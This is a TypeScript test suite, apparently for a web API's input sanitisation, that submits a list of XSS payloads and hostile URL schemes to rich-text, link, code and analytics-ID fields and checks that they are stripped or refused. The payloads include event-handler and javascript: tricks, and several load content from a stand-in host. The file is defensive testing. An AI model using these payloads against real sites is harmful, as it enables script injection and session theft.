import { contracts } from '@quoin/shared/contract/resources/contracts';
import { aBody } from '../../testing/a-body.ts';
import { accountsKey, aTestApi, siteKey, type TestApi } from '../../testing/test-api.ts';

let api: TestApi;
beforeAll(async () => {
  api = await aTestApi();
});
afterAll(() => api.close());

const hostile = [
  '<script>__pwn()</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<scr<script>ipt>__pwn()</scr</script>ipt>',
  '<img src=x onerror=__pwn()>',
  '<p OnClick="__pwn()">x</p>',
  '<p/onmouseover=__pwn()>x</p>',
  '<a href="javascript:__pwn()">x</a>',
  '<a href="JaVa&#x09;ScRiPt&colon;__pwn()">x</a>',
  '<a href="&#106;&#97;vascript:__pwn()">x</a>',
  '<a href=" &#1;javascript:__pwn()">x</a>',
  '<a href="vbscript:__pwn()">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<img src="data:image/svg+xml,<svg onload=__pwn()>">',
  '<img src="https://evil.example@host/x" srcset="javascript:__pwn() 2x">',
  '<svg onload=__pwn()><animate onbegin=__pwn()></svg>',
  '<svg><style><img src onerror=__pwn()></style></svg>',
  '<math><mi xlink:href="javascript:__pwn()">x</mi></math>',
  '<style>@import "//evil.example";</style>',
  '<p style="background:url(//evil.example)">x</p>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<iframe src="javascript:__pwn()"></iframe>',
  '<iframe srcdoc="&lt;script&gt;__pwn()&lt;/script&gt;"></iframe>',
  '<figure data-embed="javascript:__pwn()"><a href="javascript:__pwn()">x</a></figure>',
  '<figure data-embed="https://evil.example/embed" onclick="__pwn()"><a href="/x">x</a></figure>',
  '<object data="//evil.example"></object>',
  '<embed src="//evil.example">',
  '<form action="//evil.example"><input name=q autofocus onfocus=__pwn()></form>',
  '<noscript><p title="</noscript><img src=x onerror=__pwn()>"></noscript>',
  '<!--><img src=x onerror=__pwn()>-->',
  '<![CDATA[<img src=x onerror=__pwn()>]]>',
  '<template><script>__pwn()</script></template>',
];
/**
 * Matches everything that a browser acts on: tags and attributes that run or load something. Text that only looks like
 * a tag is harmless.
 */
const acts =
  /<(?:script|style|svg|math|iframe|object|embed|form|input|link|base|meta|template|noscript|animate)\b|<[^>]*\s(?:on\w+|style|srcdoc|srcset|action)\s*=|<[^>]*=\s*"?\s*(?:javascript|vbscript|data):|<[^>]*evil\.example/i;

const fields = contracts.flatMap((contract) =>
  Object.entries(contract.fields).map(([name, field]) => ({ contract, resource: contract.name, name, field })),
);
const writable = fields.filter(({ field }) => !field.readOnly);
const getAppKey = (resource: string) => (resource === 'users' ? accountsKey : siteKey);
let made = 0;
const write = ({ contract, resource, name }: (typeof fields)[number], value: unknown) => {
  made += 1;
  return resource === 'applications'
    ? api.call(`PUT /applications/${siteKey}`, { body: { [name]: value } })
    : api.call(`POST /${resource}?accept-losses=1`, {
        key: getAppKey(resource),
        body: aBody(contract, { mark: `m${made}`, [name]: value }),
      });
};
const ofKind = (kind: string, more: (one: (typeof fields)[number]) => boolean = () => true) =>
  writable.filter((one) => one.field.kind === kind && more(one));
const addresses = [
  'javascript:__pwn()',
  'JAVASCRIPT:__pwn()',
  'java\nscript:x',
  'data:text/html,x',
  'vbscript:x',
  '//evil.example',
  String.raw`\\evil.example`,
  'https:evil.example',
  'https://ok@evil.example',
];

describe.each(ofKind('html'))('rich text: $resource.$name', (one) => {
  it('is refused where so much of it is never closed that cleaning it would take seconds', async () => {
    const { status, at } = await write(one, '<b>'.repeat(20_000));
    expect(status).toBe(422);
    expect(at(`errors.${one.name}.0`)).toMatch(/too deep/);
    expect(
      (await write(one, `${'<div>'.repeat(50)}deep${'</div>'.repeat(50)}${'<p>a <b>word</b><br>'.repeat(500)}`)).status,
    ).toBeLessThan(300);
  });

  it('is stored without anything that acts, and read back so by everybody', async () => {
    const { at } = await write(one, hostile.map((piece) => `<p>before</p>${piece}<p>after</p>`).join(''));
    const stored = String(at(`data.${one.name}`));
    expect(stored).toContain('<p>before</p>');
    expect(stored).not.toMatch(acts);
    const address = one.resource === 'applications' ? siteKey : String(at('data.id'));
    expect(
      (await api.call(`GET /${one.resource}/${address}`, { key: getAppKey(one.resource) })).at(`data.${one.name}`),
    ).toBe(stored);
    // Cleaning does not decode entities: text stays text, however often it is saved.
    const text = '<p>&lt;img src=x onerror=__pwn()&gt; &amp;lt;script&amp;gt;</p>';
    expect((await write(one, text)).at(`data.${one.name}`)).toBe(text);
  });

  it.each(hostile)('removes the active content of %s', async (piece) => {
    const { status, at } = await write(one, `<p>x</p>${piece}`);
    expect([200, 201]).toContain(status);
    expect(String(at(`data.${one.name}`))).not.toMatch(acts);
  });
});

describe.each([
  ...ofKind('image'),
  ...ofKind('text', ({ field }) => field.kind === 'text' && ['link', 'links'].includes(field.format)),
])('an address: $resource.$name', (one) => {
  it('is refused by its scheme', async () => {
    for (const address of addresses)
      expect(await write(one, address)).toMatchObject({
        status: 422,
        body: { errors: { [one.name]: [expect.any(String)] } },
      });
  });
});

describe.each(ofKind('code'))('source: $resource.$name', (one) => {
  it('is refused when it is anything else than what it is for', async () => {
    for (const source of [
      ...hostile,
      '</script><script>__pwn()</script>',
      '"text"',
      'https://www.google.com.evil.example/maps',
    ])
      expect((await write(one, source)).status).toBe(422);
  });
});

describe('an analytics id', () => {
  const [pixel, analytics] = ['facebook_pixels_id', 'google_analytics_id'].map((name) =>
    fields.find((one) => one.name === name),
  );

  it.each(["G-1');__pwn('", 'G-ABC"><script>', '<script>', 'UA-1234567-1', 'https://evil.example'])(
    '%s is refused',
    async (id) => {
      for (const one of [pixel, analytics]) if (one) expect((await write(one, id)).status).toBe(422);
    },
  );

  it('is stored in the format of the service, also in lower case', async () => {
    for (const id of ['G-ABC123DEF4', 'GT-ABC123D', 'g-abc123def4'])
      if (analytics) expect((await write(analytics, id)).at('data.google_analytics_id')).toBe(id);
    if (pixel) expect((await write(pixel, '123456789012345')).at('data.facebook_pixels_id')).toBe('123456789012345');
  });
});
